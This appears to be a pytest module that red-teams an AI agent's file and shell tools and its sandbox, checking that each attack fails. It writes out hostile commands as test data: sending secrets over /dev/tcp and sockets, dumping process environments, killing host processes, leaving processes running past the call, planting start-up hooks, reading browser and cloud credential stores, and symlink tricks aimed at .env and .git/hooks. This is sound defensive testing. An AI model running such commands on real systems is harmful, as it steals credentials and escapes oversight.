"""Attack round 3, written as an outsider: each test is one attack through the real tools
(``Agent`` with the built-in tools, real bubblewrap), under the policy a user picks
(``auto``, ``read-only``, ``deny``, the default ``ask`` with a person who says no), and
checks an effect: the file that must not appear or change, the secret that must not reach
the model, the listener that must receive nothing, the process that must not survive.

The file/sandbox side; the kernel tools, ``Agent.load`` and MCP are attacked elsewhere.
``test_attack_round3_git.py`` holds the attacks through git's configuration.
"""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import time
import uuid
from pathlib import Path

import pytest
from approvals_helpers import Approver, call, drive, workspace_tools
from sandbox_helpers import Listener, UnixListener, gone, pids_with, require_sandbox, run

from nb_tools.builtin import builtin_tools

# letters only: in no shape the text search hides, so only the defence under test keeps it out
SECRET = "RtThreeSecretFoxes"


def _say(out: object, cid: str) -> str:
    return out.result(cid)[0]  # type: ignore[attr-defined]


async def _bash(ws: Path, command: str, approval: str, **kw: object) -> str:
    out = await drive(
        [call("bash", command=command, timeout=60_000, id="b")],
        tools=workspace_tools(ws, "bash"),
        approval=approval,
        approver=Approver(),
        **kw,  # type: ignore[arg-type]
    )
    return _say(out, "b")


# -- the network and other processes --------------------------------------------------


@pytest.mark.parametrize("how", ["devtcp", "python", "curl-ipv6"])
async def test_01_approved_bash_reaches_no_loopback_listener(ws: Path, how: str) -> None:
    require_sandbox()
    listener = Listener()
    try:
        port = listener.port
        command = {
            "devtcp": f"echo {SECRET} > /dev/tcp/127.0.0.1/{port}",
            "python": (
                f"python3 -c \"import socket;s=socket.create_connection(('127.0.0.1',{port}));"
                f"s.sendall(b'{SECRET}')\""
            ),
            "curl-ipv6": f"curl -s -m 3 http://[::ffff:127.0.0.1]:{port}/{SECRET}",
        }[how]
        await _bash(ws, command, "auto")
        await asyncio.sleep(0.2)
        assert listener.received() == []
    finally:
        listener.close()


async def test_02_abstract_unix_socket_of_the_host_is_out_of_reach(ws: Path) -> None:
    """Abstract sockets have no file to hide: only the network namespace keeps them apart."""
    require_sandbox()
    name = f"\0nbtools-rt3-{uuid.uuid4().hex[:8]}"
    server = UnixListener(name)
    try:
        code = f"import socket;s=socket.socket(socket.AF_UNIX);s.connect({name!r});s.sendall(b'x')"
        await _bash(ws, f"python3 -c {json.dumps(code)}", "auto")
        assert server.received() == 0
    finally:
        server.close()


async def test_03_no_process_environment_of_the_host_is_readable(
    ws: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The kernel's environment through /proc (its pid, the parent's, every pid): the
    sandbox has its own PID namespace and an allow-listed environment."""
    require_sandbox()
    monkeypatch.setenv("RT3_DB_PASSWORD", SECRET)
    monkeypatch.setenv("ANTHROPIC_API_KEY", SECRET + "-key")
    command = (
        f"cat /proc/{os.getpid()}/environ /proc/$PPID/environ 2>&1 | tr '\\0' '\\n'; "
        "for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done; env"
    )
    seen = await _bash(ws, command, "auto") + str((await run(ws, command, approved=False)).content)
    assert SECRET not in seen


async def test_04_a_host_process_cannot_be_signalled_or_traced(ws: Path) -> None:
    require_sandbox()
    marker = f"rt3-victim-{uuid.uuid4().hex[:8]}"
    victim = subprocess.Popen(["sleep", "60", marker][:2], env={"M": marker})
    try:
        pid = victim.pid
        command = (
            f"kill -9 {pid}; kill -9 -1; "
            f"python3 -c 'import ctypes;print(ctypes.CDLL(None).ptrace(16,{pid},0,0))'; "
            f"cat /proc/{pid}/cmdline"
        )
        await _bash(ws, command, "auto")
        await run(ws, command, approved=False)
        assert victim.poll() is None, "the sandbox killed a host process"
    finally:
        victim.kill()
        victim.wait()


async def test_05_a_background_process_does_not_outlive_the_call(ws: Path) -> None:
    require_sandbox()
    marker = f"rt3bg{uuid.uuid4().hex[:8]}"
    command = (
        f"(setsid nohup bash -c 'exec -a {marker} sleep 120' >/dev/null 2>&1 &); "
        f"(trap '' HUP TERM; exec -a {marker}2 sleep 120) & disown; echo started"
    )
    await _bash(ws, command, "auto")
    assert await gone(marker), pids_with(marker)


async def test_06_the_jupyter_runtime_folder_keeps_its_keys(
    ws: Path, visible_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A kernel's connection file (its HMAC key lets a program run code in the kernel) and
    the server's jpserver file (its token) where Jupyter keeps them, outside /tmp."""
    require_sandbox()
    runtime = visible_dir / "runtime"
    runtime.mkdir()
    monkeypatch.setenv("JUPYTER_RUNTIME_DIR", str(runtime))
    (runtime / "kernel-1a2b.json").write_text(json.dumps({"key": SECRET, "shell_port": 1}))
    (runtime / "jpserver-4242.json").write_text(json.dumps({"token": SECRET + "t"}))
    command = f"cat {runtime}/*.json; ls {runtime}"
    seen = await _bash(ws, command, "auto") + str((await run(ws, command, approved=False)).content)
    assert SECRET not in seen and "kernel-1a2b" not in seen


async def test_07_a_connection_file_in_the_workspace_keeps_its_key(ws: Path) -> None:
    """VS Code and ``jupyter console --existing ./kernel.json`` put a connection file
    where the user is: its name, not a runtime folder, says what it is."""
    require_sandbox()
    (ws / "kernel-v3e1f.json").write_text(
        json.dumps({"key": SECRET, "signature_scheme": "hmac-sha256", "shell_port": 5})
    )
    (ws / "jpserver-77.json").write_text(json.dumps({"token": SECRET + "t", "port": 8888}))
    out = await drive(
        [
            call("read_file", file_path="kernel-v3e1f.json", id="r"),
            call("grep", pattern="key|token", output_mode="content", id="g"),
            call("bash", command="cat *.json", id="b"),
        ],
        tools=workspace_tools(ws, "read_file", "grep", "bash"),
        approval="read-only",
    )
    seen = _say(out, "r") + _say(out, "g") + _say(out, "b")
    assert SECRET not in seen


# -- the file system outside the workspace ------------------------------------------------


@pytest.mark.parametrize("where", ["/dev/shm", "/var/tmp"])
async def test_08_approved_bash_leaves_nothing_in_shared_folders(ws: Path, where: str) -> None:
    require_sandbox()
    name = f"rt3-{uuid.uuid4().hex[:8]}"
    await _bash(ws, f"echo {SECRET} > {where}/{name}; ls {where}", "auto")
    assert not os.path.exists(f"{where}/{name}")


async def test_09_core_pattern_stays_the_hosts(ws: Path) -> None:
    require_sandbox()
    before = Path("/proc/sys/kernel/core_pattern").read_text()
    await _bash(ws, "echo '|/bin/touch /tmp/rt3-core' > /proc/sys/kernel/core_pattern", "auto")
    assert Path("/proc/sys/kernel/core_pattern").read_text() == before


# -- policies: what a "read-only" command writes ------------------------------------------


@pytest.mark.parametrize("approval", ["deny", "read-only", "ask"])
async def test_10_a_read_only_looking_command_writes_nothing(ws: Path, approval: str) -> None:
    """find -fprint, sort -o, a here-string to tee, git diff --output: whether the vote
    catches them or not, what runs without a click runs read-only."""
    require_sandbox()
    (ws / "a.txt").write_text("b\na\n")
    command = (
        "find . -fprint pwned1.txt; sort -o pwned2.txt a.txt; "
        "git diff --no-index --output=pwned3.txt a.txt a.txt; cat a.txt | tee pwned4.txt"
    )
    await _bash(ws, command, approval)
    assert sorted(p.name for p in ws.iterdir()) == ["a.txt"]
    ran = await run(ws, command, approved=False)  # the sandbox alone, whatever the vote
    assert "Read-only file system" in str(ran.content)
    assert sorted(p.name for p in ws.iterdir()) == ["a.txt"]


# -- start-up hooks bash could plant under auto --------------------------------------------


@pytest.mark.parametrize(
    "rel",
    [
        "sitecustomize.py",
        "lib/usercustomize.py",
        "home/ann/.ipython/profile_default/startup/00-rt3.py",
        "profile_rt3/startup/00.py",
        "venv2/lib/python3.11/site-packages/rt3.pth",
        ".envrc",
        ".pre-commit-config.yaml",
        "nb/ipykernel_launcher.py",
        "share/jupyter/kernels/rt3/kernel.json",
        ".jupyter/jupyter_server_config.py",
        "conf/jupyter_server_config.d/evil.json",
        "proj/.config/jupyter/custom/custom.js",
    ],
)
async def test_11_bash_under_auto_plants_no_start_up_hook(ws: Path, rel: str) -> None:
    """What runs later outside the sandbox: bash under ``auto`` cannot leave it, and
    ``write_file`` asks for it (the same answer)."""
    require_sandbox()
    (ws / "home/ann").mkdir(parents=True)
    (ws / "home/ann/.bashrc").write_text("# a home\n")
    q = json.dumps(rel)
    await _bash(ws, f'mkdir -p "$(dirname {q})"; echo "import os" > {q}; echo x > ctl', "auto")
    assert (ws / "ctl").exists()  # the call ran and could write
    assert not (ws / rel).exists(), f"bash left {rel}"
    approver = Approver()
    await drive(
        [call("write_file", file_path=rel, content="import os\n", id="w")],
        tools=workspace_tools(ws, "write_file"),
        approval="auto",
        approver=approver,
    )
    assert approver.asked == ["w"] and not (ws / rel).exists()


# -- secrets a home folder holds that are not its dot-entries ------------------------------

HOME_SECRETS = [
    "home/ann/snap/firefox/common/.mozilla/firefox/p.default/logins.json",
    "home/ann/snap/gh/502/.config/gh/hosts.yml",
    "home/ann/Library/Keychains/login.keychain-db",
    "home/ann/Library/Cookies/Cookies.binarycookies",
    "home/ann/Library/Application Support/Google/Chrome/Default/Login Data",
    "home/ann/AppData/Roaming/gcloud/credentials.db",
    "home/ann/AppData/Roaming/gcloud/access_tokens.db",
]


@pytest.mark.parametrize("rel", HOME_SECRETS)
async def test_12_a_homes_secret_store_outside_its_dot_entries(ws: Path, rel: str) -> None:
    require_sandbox()
    (ws / "home/ann").mkdir(parents=True)
    (ws / "home/ann/.bashrc").write_text("# a home\n")
    (ws / rel).parent.mkdir(parents=True, exist_ok=True)
    (ws / rel).write_text(SECRET + "\n")
    (ws / ".ignore").write_text("!.*\n!**/.*\n")
    q = json.dumps(rel)
    out = await drive(
        [
            call("read_file", file_path=rel, id="r"),
            call("grep", pattern=SECRET, output_mode="content", id="g"),
            call("glob", pattern="**/*", id="l"),
            call("bash", command=f"cat {q}; grep -r {SECRET} .", id="b"),
        ],
        tools=workspace_tools(ws, "read_file", "grep", "glob", "bash"),
        approval="auto",
        approver=Approver(),
    )
    seen = "".join(_say(out, c) for c in "rgb")
    assert SECRET not in seen
    assert Path(rel).name not in _say(out, "l")


# -- path tricks on the file tools -------------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [
        "/proc/self/root{ws}/.env",
        "/proc/self/cwd/.env",
        "/proc/thread-self/root{ws}/.env",
        "{ws}/./sub/../.env",
        "{ws}//.env",
        "link/../../.env",
        "alias.txt",
        "/proc/self/fd/../cwd/.env",
    ],
)
async def test_13_read_file_path_tricks_reach_no_secret(ws: Path, raw: str) -> None:
    """Names for ``.env`` that are not ``.env``: through /proc, doubled slashes, a
    symlinked parent, an alias link. A person who says no keeps the secret."""
    (ws / ".env").write_text(f"API_KEY={SECRET}\n")
    (ws / "sub/deep").mkdir(parents=True)
    (ws / "link").symlink_to("sub/deep")
    (ws / "alias.txt").symlink_to(".env")
    (ws / "ok.txt").write_text("VISIBLE-control\n")
    os.chdir(ws)  # /proc/self/cwd
    control = raw.replace(".env", "ok.txt").replace("alias.txt", "ok.txt")
    out = await drive(
        [
            call("read_file", file_path=raw.format(ws=ws), id="r"),
            call("read_file", file_path=control.format(ws=ws), id="c"),
        ],
        tools=workspace_tools(ws, "read_file"),
        approval="auto",
        approver=Approver(),
    )
    assert "VISIBLE-control" in _say(out, "c")  # the trick itself reads files
    assert SECRET not in _say(out, "r")


async def test_14_bash_reads_a_secret_through_an_alias(ws: Path) -> None:
    """A symlink, /proc/self/root, a bind-mounted path: the hidden file is hidden under
    every name, without a click and with one."""
    require_sandbox()
    (ws / ".env").write_text(f"API_KEY={SECRET}\n")
    (ws / "alias.txt").symlink_to(".env")
    command = f"cat alias.txt /proc/self/root{ws}/.env /proc/self/cwd/.env .//.env; true"
    seen = await _bash(ws, command, "auto") + str((await run(ws, command, approved=False)).content)
    assert SECRET not in seen


async def test_15_a_fifo_or_device_in_the_workspace_hangs_no_tool(ws: Path) -> None:
    """A FIFO (nobody writes it) and a symlink to a device: no read tool blocks."""
    os.mkfifo(ws / "pipe.txt")
    (ws / "zero.txt").symlink_to("/dev/zero")
    (ws / "a.txt").write_text("needle\n")
    calls = [
        call("read_file", file_path="pipe.txt", id="r1"),
        call("read_file", file_path="zero.txt", id="r2"),
        call("grep", pattern="needle", id="g1"),
        call("grep", pattern="needle", path="pipe.txt", id="g2"),
        call("glob", pattern="*", id="l"),
    ]
    start = time.monotonic()
    for engine in ("rg", None):
        tools = builtin_tools(ws, include=("read_file", "grep", "glob"))
        if engine is None:
            tools = [t for t in tools if t.info().name == "read_file"] + [
                type(t)(t.workspace, rg=None) for t in tools if t.info().name != "read_file"
            ]
        out = await asyncio.wait_for(
            drive(calls, tools=tools, approval="auto", approver=Approver()), 30
        )
        assert "a.txt" in _say(out, "g1")
    assert time.monotonic() - start < 30


async def test_16_a_huge_sparse_file_is_no_denial_of_service(ws: Path) -> None:
    """100 GB of holes: read_file and grep (both engines) answer in seconds."""
    with open(ws / "huge.log", "wb") as f:
        f.truncate(100 << 30)
    (ws / "a.txt").write_text("needle\n")
    start = time.monotonic()
    tools = builtin_tools(ws, include=("read_file", "grep"))
    py = [type(t)(t.workspace, rg=None) for t in tools if t.info().name == "grep"]
    out = await asyncio.wait_for(
        drive(
            [call("read_file", file_path="huge.log", id="r"), call("grep", pattern="x", id="g")],
            tools=tools,
            approval="auto",
        ),
        60,
    )
    assert out.result("r")[1]  # refused, not read
    r = await asyncio.wait_for(py[0].call(json.dumps({"pattern": "needle"})), 60)
    assert "a.txt" in r.content
    assert time.monotonic() - start < 60


async def test_17_a_symlink_swapped_between_card_and_write(ws: Path) -> None:
    """The person approves ``notes/x.txt``; before the write, ``notes`` becomes a link to
    ``.git/hooks``: nothing lands in the hooks folder."""
    (ws / ".git/hooks").mkdir(parents=True)
    (ws / "notes").mkdir()

    async def swap_then_yes(request: object) -> bool:
        (ws / "notes").rename(ws / "notes.old")
        (ws / "notes").symlink_to(".git/hooks")
        return True

    await drive(
        [call("write_file", file_path="notes/post-checkout", content="#!/bin/sh\n", id="w")],
        tools=workspace_tools(ws, "write_file"),
        approver=swap_then_yes,  # type: ignore[arg-type]
    )
    assert not (ws / ".git/hooks/post-checkout").exists()


async def test_18_unicode_and_case_twins_of_protected_names_ask(ws: Path) -> None:
    """Names a permissive file system folds onto ``.git``/``.env`` (fullwidth, a zero-width
    joiner, upper case, trailing dot): a write under ``auto`` asks for each."""
    names = ["．git/config", ".g\u200dit/config", ".GIT/config", ".git./config", ".ENV", ".env "]
    approver = Approver()
    await drive(
        [call("write_file", file_path=n, content="x", id=f"w{i}") for i, n in enumerate(names)],
        tools=workspace_tools(ws, "write_file"),
        approval="auto",
        approver=approver,
    )
    assert approver.asked == [f"w{i}" for i in range(len(names))]
    assert list(ws.iterdir()) == []


# -- secrets through copies, history and depth ---------------------------------------------


async def test_19_an_approved_copy_of_a_hidden_secret_is_empty(ws: Path) -> None:
    """Under ``auto`` bash copies ``.env`` to a plain name, then reads the copy (and a
    later no-click ``read_file`` reads it too): the copy holds nothing, since the
    approved call never saw the secret either."""
    require_sandbox()
    (ws / ".env").write_text(f"API_KEY={SECRET}\n")
    (ws / "sub").mkdir()
    (ws / "sub/.env.local").write_text(f"DB={SECRET}\n")
    text = await _bash(ws, "cp .env leak.txt; cat sub/.env.local >> leak.txt; cat leak.txt", "auto")
    out = await drive(
        [call("read_file", file_path="leak.txt", id="r")],
        tools=workspace_tools(ws, "read_file"),
        approval="auto",
    )
    assert SECRET not in text + _say(out, "r")


async def test_20_a_secret_past_the_scans_depth(ws: Path) -> None:
    """A ``.env`` 40 folders down (the scan reads 32 levels): a no-click call still
    cannot read it."""
    require_sandbox()
    deep = ws.joinpath(*["d"] * 40)
    deep.mkdir(parents=True)
    (deep / ".env").write_text(f"API_KEY={SECRET}\n")
    rel = deep.relative_to(ws) / ".env"
    seen = str((await run(ws, f"cat {rel}; grep -r API_KEY . ; true", approved=False)).content)
    assert SECRET not in seen


async def test_21_a_hard_link_of_a_secret_inside_the_workspace(ws: Path) -> None:
    """``notes.txt`` is a second name of ``.env``: without a click, no tool shows it."""
    require_sandbox()
    (ws / ".env").write_text(f"API_KEY={SECRET}\n")
    os.link(ws / ".env", ws / "notes.txt")
    out = await drive(
        [
            call("read_file", file_path="notes.txt", id="r"),
            call("grep", pattern="API_KEY", output_mode="content", id="g"),
        ],
        tools=workspace_tools(ws, "read_file", "grep"),
        approval="read-only",
    )
    shell = await run(ws, "cat notes.txt; grep -r API_KEY .; true", approved=False)
    assert "[exit code 0]" in str(shell.content)  # it ran
    assert SECRET not in "".join(_say(out, c) for c in "rg") + str(shell.content)


async def test_22_a_token_in_a_remote_url_of_the_repository(ws: Path) -> None:
    """``git remote -v``, ``git config -l`` and ``cat .git/config`` without a click."""
    require_sandbox()
    subprocess.run(["git", "init", "-q", str(ws)], check=True, capture_output=True)
    subprocess.run(
        ["git", "-C", str(ws), "remote", "add", "origin", f"https://bot:{SECRET}@example.com/r"],
        check=True,
        capture_output=True,
    )
    command = "git remote -v; git config -l; cat .git/config; true"
    shell = str((await run(ws, command, approved=False)).content)
    assert "example.com/r" in shell  # it ran
    assert SECRET not in shell


COMMITTED = "RT3-SECRET-6f1d0c"  # a literal: the text search knows its shape


async def test_23_a_secret_file_committed_to_the_repositorys_history(ws: Path) -> None:
    """``.env`` was committed once: git's objects hold it, and ``git show``/``git log -p``
    read objects, not the hidden file; what they print is searched for secrets by their
    text (``API_KEY=...``) before the model reads it."""
    require_sandbox()
    env = {"PATH": "/usr/bin:/bin", "HOME": str(ws), "GIT_CONFIG_NOSYSTEM": "1"}

    def git(*a: str) -> None:
        subprocess.run(["git", "-C", str(ws), *a], check=True, capture_output=True, env=env)

    git("init", "-q")
    (ws / ".env").write_text(f"API_KEY={COMMITTED}\n")
    git("add", ".env")
    git("-c", "user.email=a@b", "-c", "user.name=a", "commit", "-qm", "oops")
    command = "git show HEAD:.env; git log -p | head -40; git grep API_KEY HEAD; true"
    shell = str((await run(ws, command, approved=False)).content)
    assert "[exit code 0]" in shell  # it ran
    assert COMMITTED not in shell
